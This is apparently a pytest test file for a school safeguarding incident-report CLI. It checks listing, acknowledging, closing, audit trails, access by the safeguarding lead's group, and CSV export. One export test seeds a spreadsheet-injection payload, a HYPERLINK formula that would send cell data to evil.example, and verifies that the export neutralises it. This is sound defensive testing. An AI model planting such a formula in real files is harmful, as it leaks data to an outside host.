"""`policybot incidents ...` as the DSL runs it: a real process and a real database."""

from __future__ import annotations

import csv
import io
import json
import os
import pwd

import pytest

from bot.cli.incidents import EXPORT_FIELDS
from bot.incidents.service import IncidentService
from bot.settings import Settings
from tests.support.cli import policybot
from tests.support.incidents import draft


@pytest.fixture
def db(tmp_path):
    url = f"sqlite:///{tmp_path / 'incidents.sqlite3'}"
    service = IncidentService(Settings(DATABASE_URL=url))
    first = service.submit(draft(), "a").reference
    second = service.submit(draft(category="cyberbullying", immediate_danger=True, description="Group chat messages",
                                  people_text="two Year 6 pupils"), "b").reference
    return {"DATABASE_URL": url}, first, second


READS = ("listed", "viewed", "exported")


def run(env, *args):
    result = policybot("incidents", *args, env=env)
    return result.returncode, result.stdout.decode(), result.stderr.decode()


def test_list_show_ack_close_and_filter(db):
    env, first, second = db
    code, out, _ = run(env, "list")
    assert code == 0 and first in out and second in out and "YES" in out
    code, out, _ = run(env, "list", "--json")
    assert [r["reference"] for r in json.loads(out)] == [first, second]
    assert run(env, "ack", first)[1].strip() == f"{first} is now acknowledged."
    assert run(env, "close", first, "--note", "Spoke to the family.")[0] == 0
    code, out, _ = run(env, "list", "--status", "open", "--json")
    assert [r["reference"] for r in json.loads(out)] == [second]
    details = json.loads(run(env, "show", first, "--json")[1])
    assert details["status"] == "closed" and details["action_taken"] == "Spoke to the family."
    me = f"cli:{pwd.getpwuid(os.geteuid()).pw_name}"
    assert [(a["action"], a["who"]) for a in details["audit"] if a["action"] not in READS] == [
        ("created", "Sam Teacher (web:abc)"), ("acknowledged", me), ("closed", me)]
    code, out, _ = run(env, "show", second)
    assert code == 0 and "Group chat messages" in out and "Audit trail:" in out


def test_export_csv_in_safeguarding_record_order(db):
    env, first, second = db
    run(env, "close", first, "--note", "Blocked and reported to the head.")
    code, out, _ = run(env, "export", "--format", "csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert code == 0 and tuple(rows[0]) == EXPORT_FIELDS
    assert rows[0] == ["Date and time", "Category", "People involved", "What happened", "Action taken",
                       "Reported by", "Reference"]
    assert rows[1][0] == "23/11/2026 15:00" and rows[1][4] == "Blocked and reported to the head."
    assert rows[1][6] == first and rows[2][6] == second and rows[2][2] == "two Year 6 pupils"


@pytest.mark.parametrize("args, words", [
    (("show", "INC-1999-0001"), "No report with reference"),
    (("ack", "INC-1999-0001"), "No report with reference"),
])
def test_unknown_references_are_a_clear_error(db, args, words):
    env, _, _ = db
    code, out, err = run(env, *args)
    assert code == 1 and words in err and "Traceback" not in err


def test_closed_reports_stay_closed(db):
    env, first, _ = db
    run(env, "close", first, "--note", "done")
    code, _, err = run(env, "ack", first)
    assert code == 1 and "already closed" in err


def test_a_database_that_is_down_is_one_clear_line():
    code, _, err = run({"DATABASE_URL": "postgresql+psycopg://nobody@127.0.0.1:1/none"}, "list")
    assert code == 1 and err.startswith("error: the database at postgresql+psycopg://nobody@127.0.0.1:1/none")
    assert "Traceback" not in err


def test_export_cells_that_look_like_formulas_are_text(tmp_path):
    url = f"sqlite:///{tmp_path / 'incidents.sqlite3'}"
    IncidentService(Settings(DATABASE_URL=url)).submit(draft(
        description='=HYPERLINK("http://evil.example/?"&A1,"Click")', people_text="+44 7700 900000",
        reporter_name="@admin"), "f")
    code, out, _ = run({"DATABASE_URL": url}, "export", "--format", "csv")
    row = list(csv.reader(io.StringIO(out)))[1]
    assert code == 0
    assert row[3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" and row[2] == "'+44 7700 900000"
    assert row[5].startswith("'@admin")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("value, shown", [("=1+2", "'=1+2"), ("-3", "'-3"), ("\tx", "'\tx"), ("plain", "plain"),
                                          ("", ""), (7, 7)])
def test_a_formula_start_is_neutralised(value, shown):
    from bot.cli.spreadsheet import as_text_cell

    assert as_text_cell(value) == shown


def test_the_actor_is_the_operating_system_user_and_cannot_be_given():
    from bot.cli.main import parser

    with pytest.raises(SystemExit):
        parser().parse_args(["incidents", "ack", "INC-2026-0001", "--by", "someone.else"])


def test_reading_reports_is_recorded_by_whom(db):
    env, first, second = db
    me = f"cli:{pwd.getpwuid(os.geteuid()).pw_name}"
    run(env, "show", first)
    run(env, "list")
    run(env, "export")
    details = json.loads(run(env, "show", first, "--json")[1])
    reads = [(a["action"], a["who"]) for a in details["audit"] if a["action"] in READS]
    assert reads == [("viewed", me), ("listed", me), ("exported", me)]  # this show is recorded after it prints
    assert [a["action"] for a in json.loads(run(env, "show", second, "--json")[1])["audit"]] == [
        "created", "listed", "exported"]


def test_only_the_dsl_group_may_read_reports(db):
    import grp

    env, first, _ = db
    mine = grp.getgrgid(os.getegid()).gr_name
    other = next(g.gr_name for g in grp.getgrall() if g.gr_gid not in os.getgroups() and g.gr_gid != os.getegid()
                 and pwd.getpwuid(os.geteuid()).pw_name not in g.gr_mem)
    for args in (("list",), ("show", first), ("export",)):
        code, out, err = run({**env, "DSL_GROUP": other}, *args)
        assert code == 2 and out == "" and "Designated Safeguarding Lead's group" in err and first not in err
    assert policybot("audit", "verify", env={**env, "DSL_GROUP": other}).returncode == 2
    assert run({**env, "DSL_GROUP": mine}, "show", first)[0] == 0
